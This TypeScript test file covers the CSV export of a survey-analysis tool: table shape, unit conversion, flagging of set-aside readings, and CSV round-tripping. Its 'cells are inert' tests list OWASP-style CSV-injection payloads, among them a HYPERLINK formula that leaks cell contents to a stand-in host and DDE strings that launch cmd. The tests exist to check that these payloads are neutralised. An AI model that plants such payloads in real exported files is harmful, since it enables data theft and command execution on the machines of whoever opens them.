import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { analyse } from '../../src/analyse.ts';
import type { Analysis } from '../../src/analysis.ts';
import { openJob } from '../../src/cli/store/open-job.ts';
import { csvText } from '../../src/export/csv-text.ts';
import type { Cell, Table } from '../../src/export/table.ts';
import { TABLE_NAMES } from '../../src/export/table-names.ts';
import { exportDocument, exportTables } from '../../src/export/tables.ts';

const SAMPLES = ['juniper-lane', 'saltmarsh-road'] as const;
const analyses = new Map<string, Analysis>();
beforeAll(async () => {
  for (const name of SAMPLES) {
    const opened = await openJob(new URL(`../../sample-surveys/${name}`, import.meta.url).pathname);
    analyses.set(name, analyse(opened.job, opened.readings, opened.marks, opened.findings));
  }
});

function read(text: string): string[][] {
  return new Papa.Parser({ delimiter: ',', newline: '\n' }).parse(text, 0, false).data as string[][];
}

describe.each(SAMPLES)('the export of %s', (name) => {
  it('has every table, rectangular, with only finite numbers', () => {
    const tables = exportTables(analyses.get(name)!);
    expect(tables.map((table) => table.name)).toEqual(TABLE_NAMES);
    for (const { columns, rows, name: table } of tables) {
      expect(new Set(columns).size, table).toBe(columns.length);
      expect(rows.length, table).toBeGreaterThan(0);
      for (const row of rows) {
        expect(row, table).toHaveLength(columns.length);
        for (const cell of row) if (typeof cell === 'number') expect(Number.isFinite(cell), table).toBe(true);
      }
    }
  });

  it('agrees with the analysis, converted to the units its headings name', () => {
    const analysis = analyses.get(name)!;
    // Exact by definition of the units (international yard and pound agreement, 1959).
    const perUnit: Record<string, number> = { ft: 0.3048, in: 0.0254, m: 1, mm: 0.001 };
    const { tables, units } = exportDocument(analysis);
    const us = analysis.job.units === 'us';
    expect(units).toEqual(
      us ? { station: 'ft', offset: 'in', angle: 'mrad' } : { station: 'm', offset: 'mm', angle: 'mrad' },
    );
    let at = 0;
    for (const { fit } of analysis.lines) {
      for (const survey of fit.surveys) {
        for (const station of survey.stations) {
          const row = tables.deviations![at++]!;
          expect((row[`station_${units.station}`] as number) * perUnit[units.station]!).toBeCloseTo(
            station.station,
            8,
          );
          expect((row[`deviation_${units.offset}`] as number) * perUnit[units.offset]!).toBeCloseTo(
            station.deviation,
            8,
          );
        }
      }
    }
    expect(at).toBe(tables.deviations!.length);
    const zone = analysis.lines[0]!.fit.zones[0]!;
    expect((tables.zones![0]!.rotation_mrad as number) / 1000).toBeCloseTo(zone.rotation, 9);
    expect(tables.readings).toHaveLength(analysis.readings.length);
  });

  it('marks the readings that were set aside, with the reason', () => {
    const analysis = analyses.get(name)!;
    const aside = analysis.lines.flatMap(({ fit }) => fit.surveys.flatMap((survey) => survey.setAside));
    const rows = exportDocument(analysis).tables.readings!.filter((row) => row.set_aside === true);
    expect(rows.map((row) => `${row.file}:${row.row}`).sort()).toEqual(
      aside.map((each) => `${each.file}:${each.row}`).sort(),
    );
    for (const row of rows) expect(row.set_aside_reason).toBeTruthy();
  });

  it('reads back from its CSV cell by cell', () => {
    for (const table of exportTables(analyses.get(name)!)) {
      const [head, ...rows] = read(csvText(table)).filter((row) => row.length > 1);
      expect(head).toEqual(table.columns);
      expect(rows).toHaveLength(table.rows.length);
      rows.forEach((row, i) => {
        row.forEach((cell, j) => {
          const given = table.rows[i]![j]!;
          if (typeof given === 'number') expect(Number(cell)).toBe(given);
          else if (typeof given === 'string') expect(cell.replace(/^'/, '')).toBe(given);
        });
      });
    }
  });
});

describe('cells are inert', () => {
  const one = (cell: Cell): string => {
    const table: Table = { name: 't', columns: ['a', 'b'], rows: [[cell, 'end']] };
    return read(csvText(table))[1]![0]!;
  };

  // The first characters OWASP's page on CSV injection lists: = + - @ tab and carriage return, and what hides them.
  it.each([
    '=HYPERLINK("http://example.invalid/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '"=1+1',
    '\uff1d1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
  ])('%j is no formula', (text) => {
    expect(one(text)).toMatch(/^['\\]/);
  });

  it('keeps numbers numbers and ordinary text as it is', () => {
    expect(one(-0.125)).toBe('-0.125');
    expect(one(1e-7)).toBe('1e-7');
    expect(one('string touched; "north" side, 3 o\'clock')).toBe('string touched; "north" side, 3 o\'clock');
    expect(one(null)).toBe('');
    expect(one(true)).toBe('yes');
  });

  it('shows control characters and line ends as escapes', () => {
    expect(one('a\u001b[2Jb\nc')).toBe('a\\u001b[2Jb\\u000ac');
  });
});
